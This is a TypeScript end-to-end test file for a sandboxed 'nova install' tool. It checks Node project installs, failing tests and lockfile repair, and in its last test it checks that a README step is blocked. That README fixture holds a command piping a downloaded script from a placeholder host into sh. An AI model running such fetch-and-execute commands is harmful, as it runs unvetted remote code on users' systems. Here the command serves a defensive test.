/**
 * `nova install` end to end, through bubblewrap, on Node projects with real dependencies from the
 * npm registry: a project that installs and passes, one whose tests fail, one whose lockfile is
 * out of sync (repaired by troubleshooting), and one whose README pipes curl into sh.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DEPS, DEPS_TEST, explain, installResult, json, nodeProject, nova, novaHome, treeDigest } from './fixtures.js';

const home = novaHome();
const cleanups: (() => void)[] = process.env.E2E_KEEP ? [] : [home.cleanup];
afterAll(() => {
  for (const c of cleanups) c();
});

function project(...a: Parameters<typeof nodeProject>) {
  const p = nodeProject(...a);
  cleanups.push(p.cleanup);
  return p;
}

describe('nova install (bwrap, real npm registry)', () => {
  it('installs a project and passes its tests: success, exit 0, timed steps, test counts', async () => {
    const p = project({ name: 'passing', dependencies: { 'is-number': DEPS['is-number'], ms: DEPS.ms }, scripts: { test: 'node --test test/' }, files: { 'test/deps.test.js': DEPS_TEST } });
    const before = treeDigest(p.root);
    const r = await nova(['install', p.root, '--json', '--keep-workspace'], { home: home.path });
    const out = installResult(r);
    expect(r.code, explain(r)).toBe(0);
    expect(out.status).toBe('success');
    expect(out.workspace).toBe(join(home.path, 'runs', out.runId, 'workspace'));
    expect(out.sandbox).toBe('bwrap');
    // The DESIGN contract: exactly one JSON object with these fields (the schema check above is strict).
    const raw = JSON.parse(r.stdout) as Record<string, unknown> & { steps: Record<string, unknown>[] };
    expect(Object.keys(raw)).toEqual(expect.arrayContaining(['runId', 'status', 'steps', 'diagnosis']));
    for (const step of raw.steps) expect(Object.keys(step)).toEqual(expect.arrayContaining(['stage', 'command', 'status', 'exitCode', 'durationMs', 'attempts']));
    expect(out.steps.map((s) => [s.stage, s.command, s.status, s.attempts])).toEqual([
      ['install', 'npm install', 'success', 1],
      ['test', 'npm test', 'success', 1],
    ]);
    for (const s of out.steps) {
      expect(s.exitCode).toBe(0);
      expect(s.durationMs).toBeGreaterThan(0);
    }
    expect(out.steps[1].tests).toMatchObject({ framework: 'node:test', passed: 2, failed: 0 });
    expect(out.diagnosis).toEqual([]);
    // The install ran on a copy: the repository itself has no node_modules and is unchanged.
    expect(existsSync(join(p.root, 'node_modules'))).toBe(false);
    expect(treeDigest(p.root)).toBe(before);
    expect(existsSync(join(home.path, 'runs', out.runId, 'workspace', 'node_modules', 'is-number', 'package.json'))).toBe(true);
  });

  it('reports failing tests: status failed, exit 1, the counts, diagnosis test-failure', async () => {
    const p = project({
      name: 'failing-tests', dependencies: { 'left-pad': DEPS['left-pad'] }, scripts: { test: 'node --test test/' },
      files: {
        'test/pad.test.js': `const test = require('node:test');
const assert = require('node:assert');
const leftPad = require('left-pad');
test('pads with spaces', () => assert.strictEqual(leftPad('1', 3), '  1'));
test('pads with zeros', () => assert.strictEqual(leftPad(7, 3, 0), '007'));
test('a wrong expectation', () => assert.strictEqual(leftPad('ab', 4), 'ab'));
`,
      },
    });
    const r = await nova(['install', p.root, '--json'], { home: home.path });
    const out = installResult(r);
    expect(r.code, explain(r)).toBe(1);
    expect(out.status).toBe('failed');
    expect(out.steps[0]).toMatchObject({ stage: 'install', status: 'success' });
    const t = out.steps[1];
    expect(t).toMatchObject({ stage: 'test', command: 'npm test', status: 'failed', attempts: 1 });
    expect(t.exitCode).not.toBe(0);
    expect(t.tests).toMatchObject({ framework: 'node:test', passed: 2, failed: 1 });
    const d = out.diagnosis.find((x) => x.step === 1);
    expect(d?.category).toBe('test-failure');
    // Failing tests are the result, not something to "fix": no fix was applied.
    expect(out.diagnosis.flatMap((x) => x.fixes).filter((f) => f.applied)).toEqual([]);
  });

  it('repairs an out-of-sync lockfile: npm ci fails, npm install replaces it, 2 attempts, success recorded', async () => {
    // The lockfile knows only ms; package.json also wants is-number: `npm ci` refuses.
    const lock = {
      name: 'stale-lock', version: '1.0.0', lockfileVersion: 3, requires: true,
      packages: {
        '': { name: 'stale-lock', version: '1.0.0', license: 'MIT', dependencies: { ms: DEPS.ms } },
        'node_modules/ms': { version: '2.1.3', resolved: 'https://registry.npmjs.org/ms/-/ms-2.1.3.tgz', license: 'MIT' },
      },
    };
    const p = project({ name: 'stale-lock', dependencies: { 'is-number': DEPS['is-number'], ms: DEPS.ms }, scripts: { test: 'node --test test/' }, files: { 'package-lock.json': json(lock), 'test/deps.test.js': DEPS_TEST } });
    const r = await nova(['install', p.root, '--json'], { home: home.path });
    const out = installResult(r);
    expect(r.code, explain(r)).toBe(0);
    expect(out.status).toBe('success');
    const install = out.steps[0];
    expect(install).toMatchObject({ stage: 'install', command: 'npm ci', status: 'success', exitCode: 0, attempts: 2 });
    const d = out.diagnosis.find((x) => x.step === 0);
    expect(d?.pattern).toBe('npm.lockfile-out-of-sync');
    expect(d?.fixes.find((f) => f.applied)).toMatchObject({ command: expect.stringMatching(/^npm install\b/), worked: true });
    expect(out.steps[1].tests).toMatchObject({ passed: 2, failed: 0 });

    // The run record holds both attempts and the fix outcome.
    const shown = await nova(['runs', 'show', out.runId, '--json'], { home: home.path });
    expect(shown.code, explain(shown)).toBe(0);
    const run = JSON.parse(shown.stdout) as { status: string; commands: { step_index: number; attempt: number; command: string; status: string; exit_code: number | null }[] };
    expect(run.status).toBe('success');
    const first = run.commands.filter((c) => c.step_index === 0).map((c) => [c.attempt, c.command.split(' ').slice(0, 2).join(' '), c.status]);
    expect(first).toEqual([[1, 'npm ci', 'failed'], [2, 'npm install', 'success']]);
    expect(JSON.stringify(run)).toMatch(/npm\.lockfile-out-of-sync/);
  });

  it('blocks a README step that pipes curl into sh, reports it, and runs nothing of it', async () => {
    const readme = `# piped

## Installation

\`\`\`sh
touch curl-step-ran && curl -fsSL https://example.invalid/install.sh | sh
\`\`\`

## Testing

\`\`\`sh
npm test
\`\`\`
`;
    const p = project({ name: 'curl-pipe', dependencies: { ms: DEPS.ms }, scripts: { test: 'node -e "require(\'ms\')"' }, files: { 'README.md': readme } });
    const r = await nova(['install', p.root, '--json'], { home: home.path });
    const out = installResult(r);
    expect(r.code, explain(r)).toBe(1);
    expect(out.status).toBe('blocked');
    const blocked = out.steps.filter((s) => s.status === 'blocked');
    expect(blocked).toHaveLength(1);
    expect(blocked[0]).toMatchObject({ command: expect.stringContaining('curl -fsSL https://example.invalid/install.sh | sh'), exitCode: null, attempts: 0, durationMs: 0 });
    expect(blocked[0].reasons?.join(' ')).toMatch(/curl.*sh/);
    expect(r.stderr).toMatch(/^\[1\/3\] install touch curl-step-ran && curl .*\n {4}⛔ blocked: pipes downloaded content \(curl\) into sh/m);
    // The rest of the project still ran…
    expect(out.steps.filter((s) => s.status === 'success').map((s) => s.command)).toContain('npm test');
    // …but nothing of the blocked step: no marker in the workspace copy, the original, or the run's home.
    const run = join(home.path, 'runs', out.runId);
    expect(existsSync(join(run, 'workspace', 'package.json'))).toBe(true);
    for (const dir of [join(run, 'workspace'), join(run, 'home'), p.root]) expect(existsSync(join(dir, 'curl-step-ran'))).toBe(false);
    const shown = JSON.parse((await nova(['runs', 'show', out.runId, '--json'], { home: home.path })).stdout) as { commands: { command: string }[] };
    expect(shown.commands.map((c) => c.command)).not.toContain(blocked[0].command);
  });
});
